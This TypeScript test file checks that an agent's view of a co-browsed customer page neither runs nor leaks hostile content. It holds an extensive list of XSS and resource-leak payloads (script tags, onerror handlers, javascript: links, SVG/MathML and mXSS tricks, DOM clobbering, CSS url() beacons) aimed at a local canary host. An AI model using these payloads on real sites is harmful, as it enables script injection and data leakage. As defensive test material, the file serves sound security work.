/**
 * The attack: a page that the customer visits (or a customer who runs a host of their own making) wants to run script in
 * the agent's browser, to make it send a request (its address, cookies and the fact itself are worth something), or to lead
 * it elsewhere. Everything that a page can be made of goes through host, room and replica, and then the same once more
 * without host and room: as messages that no host of ours would send.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { WebSocketServer, type WebSocket } from 'ws';
import { haveChromium, launchChromium } from '../support/browsers.ts';
import { openAsAgent, replicaOf, replicaShows, startAsCustomer } from '../support/journey.ts';
import { startGateway, type Gateway } from '../support/start-gateway.ts';

const root = fileURLToPath(new URL('../..', import.meta.url));
/** Found by the browsers on loopback, by the gateway not at all: whoever arrives there came directly. */
const CANARY = 'canary.leak.test';
const AGENT = 'agent-of-the-safety-test';
/** What each vector tries to run. */
const RUN = 'window.pwned=1;try{top.pwned=1;parent.pwned=1}catch(e){}';

/** One vector a line: `$C` is an address of the canary, `$X` script. */
const MARKUP = String.raw`
<script>$X</script>
<script src="$C/script.js"></script>
<script type="module" src="$C/module.js"></script>
<img src="$C/img.png" onerror="$X" onload="$X">
<img srcset="$C/srcset.png 1x, $C/srcset2.png 2x" alt="">
<picture><source srcset="$C/source.png"><img src="$C/picture.png" alt=""></picture>
<svg onload="$X"><script>$X</script><a href="javascript:$X" data-click><text y="15">svg link</text></a></svg>
<svg><a xlink:href="javascript:$X" data-click><text y="15">xlink</text></a></svg>
<svg><a><animate attributeName="href" values="javascript:$X" begin="0s"/><text y="15" data-click>animated</text></a></svg>
<svg><set attributeName="onmouseover" to="$X"/><use href="$C/use.svg#x"/><use xlink:href="data:image/svg+xml,<svg id='x' onload='$X'/>#x"/></svg>
<svg><image href="$C/image.svg" xlink:href="$C/image2.svg"/><feImage href="$C/fe.png"/><foreignObject><iframe srcdoc="<script>$X</script>"></iframe></foreignObject></svg>
<svg><style>*{background:url($C/svg-style)}</style><filter id="f"><feImage xlink:href="$C/fe2.png"/></filter><rect filter="url($C/filter.svg#f)" fill="url($C/fill.svg#p)" width="9" height="9"/></svg>
<math href="javascript:$X" data-click><mi xlink:href="javascript:$X">math</mi></math>
<math><annotation-xml encoding="text/html"><img src="$C/mathml.png" onerror="$X"></annotation-xml></math>
<a href="javascript:$X" data-click>script link</a>
<a href=" java&#10;script:$X" data-click>split script link</a>
<a href="data:text/html,<script>$X</script>" data-click>data link</a>
<a href="$C/ping-page" ping="$C/ping" data-click>pinging link</a>
<a href="$C/blank" target="_blank" download data-click>link to a tab</a>
<a href="$C/top" target="_top" rel="opener" data-click>link to the top</a>
<map name="m"><area shape="rect" coords="0,0,50,50" href="javascript:$X" ping="$C/area-ping"></map><img usemap="#m" width="50" height="50" alt="map" data-click>
<iframe src="$C/frame.html"></iframe>
<iframe srcdoc="<script>$X</script><img src=$C/srcdoc.png>"></iframe>
<iframe src="javascript:$X"></iframe>
<iframe src="data:text/html,<script>$X</script>"></iframe>
<iframe sandbox="allow-scripts allow-top-navigation" src="$C/sandboxed.html"></iframe>
<object data="$C/object.swf"><param name="movie" value="$C/param.swf"></object>
<embed src="$C/embed.html" type="text/html">
<meta http-equiv="refresh" content="900;url=$C/refresh">
<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri $C/report">
<meta http-equiv="set-cookie" content="a=b">
<link rel="preload" as="image" href="$C/preload.png">
<link rel="prefetch" href="$C/prefetch">
<link rel="modulepreload" href="$C/modulepreload.js">
<link rel="dns-prefetch" href="$C"><link rel="preconnect" href="$C">
<link rel="stylesheet" href="$C/sheet.css" onload="$X" onerror="$X">
<link rel="icon" href="$C/icon.png"><link rel="manifest" href="$C/manifest.json"><link rel="prerender" href="$C/prerender">
<style>@import "$C/import.css"; @import url($C/import2.css);</style>
<style>@font-face{font-family:leak;src:url($C/font.woff2)} body{font-family:leak,sans-serif;cursor:url($C/cursor.png),auto}</style>
<style>#set{background:image-set("$C/set.png" 1x)} li{list-style-image:url($C/list.png)} p::before{content:url($C/content.png)}</style>
<style>#set{mask-image:url($C/mask.png);border-image:url($C/border.png);shape-outside:url($C/shape.png);filter:url($C/filter2.svg#f)}</style>
<style>input[name=q][value^=s]{background:url($C/attribute-s)} input[name=q]{background-image:url("\68ttp://canary.leak.test/escaped")}</style>
<style>:root{--u:url($C/variable.png)} #set{background:var(--u)} @namespace x url($C/namespace);</style>
<div id="set" style="background:url('$C/inline.png');width:40px;height:10px" background="$C/background.png"><p>p</p><ul><li>li</ul></div>
<table background="$C/table.png"><tr><td background="$C/td.png">cell</table>
<input name="q" value="secret"><input type="image" src="$C/input-image.png" data-click alt="image input">
<form action="$C/form" method="post" target="_blank"><input name="field" value="typed" id="enter"><button formaction="javascript:$X" data-click>send</button></form>
<form action="javascript:$X"><button data-click>script form</button></form>
<input autofocus onfocus="$X"><select autofocus onfocus="$X"><option>one</select><textarea onfocus="$X" autofocus>text</textarea>
<details open ontoggle="$X"><summary data-click>summary</summary>details</details>
<video src="$C/video.mp4" poster="$C/poster.png" autoplay onerror="$X"><source src="$C/video-source.mp4" onerror="$X"><track src="$C/track.vtt" default></video>
<audio src="$C/audio.mp3" autoplay onerror="$X"></audio>
<marquee onstart="$X" onfinish="$X">marquee</marquee><dialog open onclose="$X"><button onclick="$X" data-click>in a dialog</button></dialog>
<div><template shadowrootmode="open"><img src="$C/declarative.png" onerror="$X"><script>$X</script><style>:host{background:url($C/shadow.png)}</style></template></div>
<template><img src="$C/template.png" onerror="$X"><script>$X</script></template>
<noscript><img src="$C/noscript.png" onerror="$X"><p title="</noscript><img src=x onerror=$X>">x</p></noscript>
<div onmouseover="$X" onclick="$X" onpointermove="$X" style="animation:a 1s" onanimationstart="$X" data-click>handlers</div><style>@keyframes a{from{opacity:1}}</style>
<form name="body"><input name="parentNode"><input id="setAttribute"><input name="hasAttribute"><input name="localName"><input name="matches"></form>
<form id="defaultView" name="documentElement"><input name="ownerDocument"></form><img name="createElement" alt=""><img name="activeElement" alt="">
<iframe name="frames" srcdoc=""></iframe><a id="location" href="$C/location">location</a><object name="cookie" data="$C/object-name"></object>
<x-evil is="y-evil" onclick="$X"><slot onslotchange="$X"></slot></x-evil><button is="z-evil" popovertarget="pop" data-click>popover</button><div popover id="pop" onbeforetoggle="$X">pop</div>
<button commandfor="pop" command="toggle-popover" data-click>command</button><base href="$C/"><keygen autofocus onfocus="$X"><isindex action="javascript:$X">
<svg><title><style><img title="</style><img src=$C/mxss.png onerror=$X>"></style></title></svg><p title="--><img src=x onerror=$X>">comment</p>
`
  .trim()
  .split('\n');

/** What only script can make; runs in the host's page, where it is the page's own affair. */
const SCRIPTED = String.raw`
  addEventListener('click', (event) => event.preventDefault());
  addEventListener('submit', (event) => event.preventDefault());
  const add = (tag, attributes, text) => {
    // Names in the page hide the document's own methods: that is one of the vectors.
    const element = Document.prototype.createElement.call(document, tag);
    for (const [name, value] of Object.entries(attributes)) try { element.setAttribute(name, value); } catch {}
    element.textContent = text;
    document.querySelector('body').append(element);
    return element;
  };
  add('style', {}, '</style><img src=$C/broken-out.png onerror="$X">');
  add('textarea', {}, '</textarea><script>$X</' + 'script>');
  add('div', { style: 'background:url($C/scripted.png)', 'data-x': '"><img src=x onerror=$X>' }, '<img src=x onerror=$X>');
  const sheet = new CSSStyleSheet();
  sheet.replaceSync('body{background-image:url($C/adopted.png)}');
  document.adoptedStyleSheets = [sheet];
  add('style', {}, '').sheet.insertRule('h1{background:url($C/inserted.png)}');
  const shadow = add('div', {}, '').attachShadow({ mode: 'closed' });
  shadow.innerHTML = '<img src="$C/closed.png" onerror="$X"><style>:host{background:url($C/closed-host.png)}</style>';
  const link = add('link', { rel: 'stylesheet', href: '$C/late.css' }, '');
  setTimeout(() => { link.rel = 'modulepreload'; link.href = '$C/became.js'; }, 50);
  const late = add('a', { 'data-click': '' }, 'late link');
  setTimeout(() => { late.href = 'javascript:$X'; late.setAttribute('onclick', '$X'); }, 50);
  add('p', {}, 'all-vectors-are-here');
`;

function fill(text: string, canary: string): string {
  return text.replaceAll('$C', canary).replaceAll('$X', RUN);
}

interface Watch {
  readonly context: BrowserContext;
  /** Addresses asked for outside the gateway's own origins, and dialogs. */
  readonly wrong: string[];
}

describe.skipIf(!haveChromium())('[S5] the agent’s browser', () => {
  let browser: Browser;
  let canary: Server;
  let canaryOrigin: string;
  const hits: string[] = [];

  beforeAll(async () => {
    canary = createServer((req, res) => {
      if (req.headers['user-agent'] === AGENT) hits.push(`${req.method ?? ''} ${req.url ?? ''}`);
      res.setHeader('Access-Control-Allow-Origin', '*');
      res.end();
    });
    canaryOrigin = `http://${CANARY}:${String(await listen(canary))}`;
    browser = await launchChromium({ loopbackHosts: [CANARY] });
  });

  afterAll(async () => {
    await browser.close();
    await close(canary);
  });

  async function watch(isOwn: (url: URL) => boolean): Promise<Watch> {
    const context = await browser.newContext({ userAgent: AGENT });
    const wrong: string[] = [];
    const name = (request: Request): string => `${request.method()} ${request.url()}`;
    context.on('request', (request) => {
      const url = new URL(request.url());
      if (/^https?:$/.test(url.protocol) && !isOwn(url)) wrong.push(name(request));
    });
    // The driver tells of requests that the browser's policy has stopped before they were any; the canary counts the others.
    context.on('requestfailed', (request) => {
      const at = request.failure()?.errorText === 'csp' ? wrong.indexOf(name(request)) : -1;
      if (at >= 0) wrong.splice(at, 1);
    });
    context.on('page', (page) =>
      page.on('dialog', (dialog) => void dialog.dismiss().finally(() => wrong.push(`dialog ${dialog.message()}`))),
    );
    return { context, wrong };
  }

  async function expectUnharmed(page: Page, { context, wrong }: Watch): Promise<void> {
    for (const frame of page.frames()) expect(await frame.evaluate(() => Reflect.get(window, 'pwned') as unknown)).toBeUndefined();
    await expect.poll(() => wrong).toEqual([]);
    expect(context.pages().length).toBe(1);
    expect(hits).toEqual([]);
  }

  test('notices a request and a script where nothing stops them', async () => {
    const { context, wrong } = await watch(() => false);
    const page = await context.newPage();
    await page.goto(`${canaryOrigin}/control`);
    await page.setContent(`<script>${RUN}</script>`);
    expect(await page.evaluate(() => Reflect.get(window, 'pwned') as unknown)).toBe(1);
    expect(wrong).toEqual([`GET ${canaryOrigin}/control`]);
    expect(hits.splice(0)).toContain('GET /control');
    await context.close();
  });

  describe('with a hostile page at the customer’s', () => {
    let gateway: Gateway;
    let target: Server;
    let customer: BrowserContext;
    let host: Page;
    let agent: Page;
    let seen: Watch;

    beforeAll(async () => {
      const html = `<!doctype html><title>hostile</title><body><h1>hostile</h1>${MARKUP.join('\n')}<script>${SCRIPTED}</script>`;
      target = createServer((req, res) => {
        res.setHeader('Content-Type', 'text/html; charset=utf-8');
        res.end(req.url === '/' ? fill(html, canaryOrigin) : '');
      });
      const port = await listen(target);
      gateway = await startGateway({
        overrides: { resolve: { 'hostile.example': '127.0.0.1' }, allowPrivateTargets: [`hostile.example:${String(port)}`] },
      });
      const session = await gateway.createSession(`http://hostile.example:${String(port)}/`);
      const own = new Set([gateway.controlOrigin, gateway.ownOrigin(session.id)]);
      seen = await watch((url) => own.has(url.origin));
      customer = await browser.newContext();
      host = await startAsCustomer(customer, session.links.customer);
      agent = await openAsAgent(seen.context, session.links.agent);
      await replicaShows(agent, 'all-vectors-are-here');
    });

    afterAll(async () => {
      await seen.context.close();
      await customer.close();
      await gateway.close();
      await close(target);
    });

    test('shows it, and runs, asks for and opens nothing of it', async () => {
      expect(MARKUP.length).toBeGreaterThan(40);
      // The page does run its script where it belongs: the vectors are no blanks.
      expect(await host.evaluate(() => Reflect.get(window, 'pwned') as unknown)).toBe(1);
      await agent.waitForLoadState('networkidle');
      await expectUnharmed(agent, seen);
      expect((await (await replicaOf(agent)).evaluate(whatIsLeft, CANARY)).filter((one) => one !== '')).toEqual([]);
    });

    test('nor after the agent has pressed everything that can be pressed', async () => {
      const frame = await replicaOf(agent);
      const places = frame.locator('a, area, button, summary, input[type=button], [role=button], marquee, math, details, div[style]');
      const count = await places.count();
      expect(count).toBeGreaterThan(20);
      for (let i = 0; i < count; i++) {
        // As a hand would, and by every button of it: what cannot be reached by one is pressed by an event.
        const options = { force: true, timeout: 1000, button: i % 3 === 2 ? 'middle' : 'left' } as const;
        await places
          .nth(i)
          .click(options)
          .catch(async () => {
            await places.nth(i).dispatchEvent('click', {}, { timeout: 1000 });
          });
      }
      await frame.locator('input[name=field]').first().focus();
      await agent.keyboard.press('Enter');
      await frame.locator('a').first().focus();
      await agent.keyboard.press('Enter');
      await host.evaluate(() => document.body.append('after-the-presses'));
      await replicaShows(agent, 'after-the-presses');
      await expectUnharmed(agent, seen);
    });
  });

  describe('with a hostile host', () => {
    let server: Server;
    let sockets: WebSocketServer;
    let origin: string;
    let line: Promise<WebSocket>;
    let page: Page;
    let seen: Watch;

    beforeAll(async () => {
      const script = await build({ entryPoints: [path.join(root, 'test/mirror/guest.ts')], bundle: true, format: 'iife', write: false });
      server = createServer((req, res) => {
        res.setHeader('Content-Type', req.url === '/guest.js' ? 'text/javascript' : 'text/html');
        if (req.url === '/guest.js') res.end(script.outputFiles[0]?.text);
        else res.end('<!doctype html><title>guest</title><div id="replica"></div><script src="/guest.js"></script>');
      });
      sockets = new WebSocketServer({ server });
      line = new Promise((resolve) => sockets.once('connection', resolve));
      origin = `http://127.0.0.1:${String(await listen(server))}`;
      seen = await watch((url) => url.origin === origin);
      page = await seen.context.newPage();
      await page.goto(`${origin}/guest`);
    });

    afterAll(async () => {
      await seen.context.close();
      for (const client of sockets.clients) client.terminate();
      sockets.close();
      await close(server);
    });

    const key = (children: unknown[], parts: object = {}): object => ({
      type: 'key',
      tab: 'tab1',
      frame: 'top',
      epoch: ++epoch,
      seq: 0,
      doc: {
        doctype: 'html',
        quirks: false,
        root: [
          1,
          'html',
          [],
          [
            [2, 'head', [], []],
            [3, 'body', [], children],
          ],
        ],
        adopted: [],
        css: [],
        viewport: { width: 800, height: 600, scale: 1 },
        scroll: [0, 0],
        res: [],
        ...parts,
      },
    });
    let epoch = 0;

    async function alive(socket: WebSocket): Promise<void> {
      const word = `alive-${String(epoch)}`;
      socket.send(JSON.stringify(key([[4, 'p', [], [[5, word]]]])));
      await expect
        .poll(async () => (await (await page.waitForSelector('iframe')).contentFrame())?.evaluate(() => document.body.textContent))
        .toBe(word);
    }

    test('builds nothing of what it says that could run, ask or lead away', async () => {
      const socket = await line;
      const c = canaryOrigin;
      let id = 10;
      const nodes = hostileNodes(c).map(([tag, attributes, children = [], extra = {}]) => [
        ++id,
        tag,
        attributes,
        children.map((text) => [++id, text]),
        extra,
      ]);
      socket.send(
        JSON.stringify(
          key(nodes, {
            css: [`body{background:url(${c}/adopted)}@import url(${c}/adopted-import);`, `:host{background:url(${c}/host)}`],
            adopted: [0],
            res: ['a0', '../../x'],
          }),
        ),
      );
      const replica = async () => (await page.waitForSelector('iframe')).contentFrame();
      await expect.poll(async () => (await replica())?.evaluate(() => document.body.childElementCount)).toBe(nodes.length);
      const left = await (await replica())?.evaluate(whatIsLeft, CANARY);
      expect(left).toEqual([]);
      // Once more as changes of what stands there, harmless until now.
      socket.send(JSON.stringify(key(nodes.map(([n], i) => [n, i % 2 ? 'a' : 'img', [], [], {}]))));
      let seq = 0;
      for (const [n, , attributes] of nodes as [number, string, string[]][])
        for (let i = 0; i + 1 < attributes.length; i += 2) {
          const op = ['attr', n, attributes[i], attributes[i + 1]];
          socket.send(JSON.stringify({ type: 'ops', tab: 'tab1', frame: 'top', epoch, seq: ++seq, ops: [op] }));
        }
      await alive(socket);
      await expectUnharmed(page, seen);
    });

    test('survives shapes that are none', async () => {
      const socket = await line;
      const shapes: unknown[][] = [
        ['insert', 3, 0, null],
        ['insert', 3, 0, [9, 'p']],
        ['insert', 3, 0, [9, '<img src=x>', ['<', '>', 'onx', 1, '__proto__', {}], [], {}]],
        ['insert', 3, 0, [9, 'p', 'onclick', [], {}]],
        ['insert', 99, 98, [9, 'p', [], [], {}]],
        ['insert', -3, 0, [9, 'p', [], [], {}]],
        ['move', 1, 3, 0],
        ['move', 3, 3, 3],
        ['remove', 1],
        ['text', 1, { toString: 1 }, 0],
        ['attr', 4, 'style', 'x'],
        ['attr', 1, 'constructor', '__proto__'],
        ['state', 3, { css: '</style><script>x</script>', layer: 'modal', frame: 'top', selected: [1e9], value: {}, box: ['x', 'y'] }],
        ['state', 3, null],
        ['shadow', 3, { mode: 'open', children: [[9, 'script', [], [[10, RUN]], {}]] }],
        ['shadow', 1, null],
        ['adopted', 0, [null, 1, {}]],
        ['css', 1, '@import url(x);'.repeat(1000)],
        ['css', '__proto__', 'a{}'],
        ['css', -1, null],
        ['adopted', 0, [1, '__proto__', 1e9]],
        ['select', 1, 1e9, {}, -5],
        ['over', 'constructor', null],
        ['defined', ['samepage-box', '<x-y>', 'font-face', 7, 'x-fine']],
        ['scroll', 0, 'x', null],
        ['focus', 'x'],
        ['viewport', null],
        ['res', '__proto__', 'x'],
        ['res', 1e9, 'x'],
        ['nothing'],
        [],
      ];
      for (const shape of [...shapes, null, 7, 'text'])
        for (const ops of [[shape], shape]) {
          socket.send(JSON.stringify(key([[4, 'text']])));
          socket.send(JSON.stringify({ type: 'ops', tab: 'tab1', frame: 'top', epoch, seq: 1, ops }));
        }
      await alive(socket);
      for (const doc of [null, 1, [], {}, { root: null }, { root: [1] }, { root: [1, 'html', [], [[2, 'body', [], null]]], res: null }]) {
        socket.send(JSON.stringify({ ...key([]), doc }));
      }
      let deep: unknown = [5000, 'p', [], [[5001, 'deep']]];
      for (let i = 4999; i > 4000; i--) deep = [i, 'div', [], [deep]];
      socket.send(JSON.stringify(key([deep])));
      await alive(socket);
      await expectUnharmed(page, seen);
    });
  });
});

/** [tag, attributes, texts, extra] as no host of ours would describe them. */
function hostileNodes(c: string): [string, string[], string[]?, object?][] {
  const script = `javascript:${RUN}`;
  return [
    ['script', ['src', `${c}/s.js`], [RUN]],
    ['SCRIPT', [], [RUN]],
    ['script', [], [RUN], { ns: 1 }],
    ['img', ['src', `${c}/i`, 'onerror', RUN, 'srcset', `${c}/i 2x`, 'loading', 'eager']],
    ['img', ['SRC', `${c}/i`, 'OnError', RUN, 'src ', 'x']],
    ['img', ['src', 'asset:9', 'onload', RUN]],
    ['iframe', ['src', `${c}/f`, 'srcdoc', `<script>${RUN}</script>`, 'sandbox', 'allow-scripts allow-same-origin', 'allow', '*']],
    ['iframe', ['src', script, 'name', 'top']],
    ['frame', ['src', `${c}/frame`]],
    ['object', ['data', `${c}/o`, 'type', 'text/html']],
    ['embed', ['src', `${c}/e`]],
    ['applet', ['code', `${c}/a`]],
    ['portal', ['src', `${c}/portal`]],
    ['fencedframe', ['src', `${c}/fenced`]],
    ['base', ['href', `${c}/`, 'target', '_top']],
    ['meta', ['http-equiv', 'refresh', 'content', `0;url=${c}/m`]],
    ['meta', ['name', 'referrer', 'content', 'unsafe-url']],
    ['link', ['rel', 'stylesheet', 'href', `${c}/l.css`]],
    ['link', ['rel', 'modulepreload preload prefetch', 'as', 'script', 'href', `${c}/l.js`]],
    ['link', ['rel', 'stylesheet', 'href', 'asset:0', 'imagesrcset', `${c}/l 1x`]],
    ['a', ['href', script, 'ping', `${c}/p`, 'target', '_top', 'download', '']],
    ['area', ['href', `${c}/area`, 'ping', `${c}/p`]],
    ['a', ['xlink:href', script, 'href', script], [], { ns: 1 }],
    ['animate', ['attributeName', 'href', 'values', script, 'to', script], [], { ns: 1 }],
    ['set', ['attributeName', 'onclick', 'to', RUN], [], { ns: 1 }],
    ['use', ['href', `${c}/u.svg#a`, 'xlink:href', `data:image/svg+xml,<svg onload='${RUN}'/>#a`], [], { ns: 1 }],
    ['image', ['href', `${c}/image`, 'xlink:href', `${c}/image`], [], { ns: 1 }],
    ['feImage', ['href', `${c}/fe`], [], { ns: 1 }],
    ['handler', ['type', 'text/javascript'], [RUN], { ns: 1 }],
    ['style', [], [`*{background:url(${c}/svg)}`], { ns: 1 }],
    ['mi', ['href', script, 'xlink:href', script], [], { ns: 2 }],
    ['annotation-xml', ['encoding', 'text/html'], ['<img src=x>'], { ns: 2 }],
    [
      'style',
      [],
      [
        `@import "${c}/import"; body{background:url(${c}/b);cursor:url(${c}/c),auto} @font-face{font-family:x;src:url(${c}/f)} *{font-family:x}`,
      ],
    ],
    ['style', [], [], { css: `</style><img src=x onerror=${RUN}>@import "${c}/css"; p{background:image-set("${c}/set" 1x)}` }],
    ['div', ['style', `background:url(${c}/style);list-style:url(${c}/ls)`, 'background', `${c}/bg`]],
    ['table', ['background', `${c}/table`]],
    ['video', ['src', `${c}/v`, 'poster', `${c}/poster`, 'autoplay', '']],
    ['audio', ['src', `${c}/audio`, 'autoplay', '']],
    ['source', ['src', `${c}/source`, 'srcset', `${c}/source`]],
    ['track', ['src', `${c}/track`, 'default', '']],
    ['input', ['type', 'image', 'src', `${c}/input`, 'formaction', script, 'autofocus', '', 'onfocus', RUN]],
    ['input', ['type', 'file', 'onchange', RUN]],
    ['form', ['action', script, 'target', '_top', 'onsubmit', RUN, 'name', 'documentElement']],
    ['button', ['formaction', script, 'popovertarget', 'x', 'commandfor', 'x', 'command', 'show-modal', 'onclick', RUN]],
    ['template', ['shadowrootmode', 'open'], [`<img src=${c}/t onerror=${RUN}>`]],
    [
      'x-evil',
      ['is', 'y', 'onclick', RUN],
      [],
      { shadow: { mode: 'open', children: [[9000, 'script', [], [[9001, RUN]], {}]], adopted: [1] } },
    ],
    ['samepage-overlay', ['data-samepage-unstyled', '', 'data-testid', 'viewer']],
    ['noscript', [], [`<img src=${c}/n>`]],
    ['plaintext', [], ['</plaintext><script>']],
    ['dialog', ['open', '', 'onclose', RUN], [], { layer: 'modal' }],
    ['body', ['onload', RUN, 'background', `${c}/body`]],
    ['html', ['manifest', `${c}/manifest`]],
    ['isindex', ['action', script]],
    ['marquee', ['onstart', RUN]],
    ['div', ['onanimationstart', RUN, 'style', 'animation:a 1s', 'xml:base', `${c}/`, 'xmlns:xlink', 'x', 'contenteditable', '']],
  ];
}

/** In a replica: what could still run, ask or lead away. Addresses in style sheets stay as text; the frame's policy holds them. */
function whatIsLeft(canary: string): string[] {
  const left: string[] = [];
  const visit = (parent: Node): void => {
    for (const node of Node.prototype.hasChildNodes.call(parent) ? Array.from(parent.childNodes) : []) {
      if (node.nodeType !== 1) continue;
      const element = node as Element; // type 1
      const tag = Object.getOwnPropertyDescriptor(Element.prototype, 'localName')?.get?.call(element) as string; // names may hide it
      if (/^(?:script|object|embed|applet|base|template|portal|fencedframe|frame|animate|set|source|track|noscript|param)$/i.test(tag))
        left.push(tag);
      const names = Element.prototype.getAttributeNames.call(element);
      for (const name of names) {
        const value = Element.prototype.getAttribute.call(element, name) ?? '';
        const isStyle = name === 'style' || name === 'fill' || name === 'filter';
        const isIdle = name === 'values'; // of an animation that is none here
        if (/^on/i.test(name) || (!isIdle && /^\s*(?:javascript|vbscript|data:text)/i.test(value))) left.push(`${tag} ${name}=${value}`);
        if (/^(?:srcdoc|ping|action|formaction|target|download|http-equiv|autofocus|is|nonce|srcset|popovertarget|commandfor)$/i.test(name))
          left.push(`${tag} ${name}`);
        if (!isStyle && value.includes(canary)) left.push(`${tag} ${name}=${value}`);
      }
      if (tag === 'iframe' && Element.prototype.getAttribute.call(element, 'sandbox') !== 'allow-same-origin')
        left.push('iframe without sandbox');
      const shadow = element.shadowRoot;
      if (shadow instanceof ShadowRoot) visit(shadow);
      visit(element);
    }
  };
  visit(document);
  return left;
}

function listen(server: Server): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)); // listening on TCP
  });
}

function close(server: Server): Promise<void> {
  server.closeAllConnections();
  return new Promise((resolve) => void server.close(() => resolve()));
}
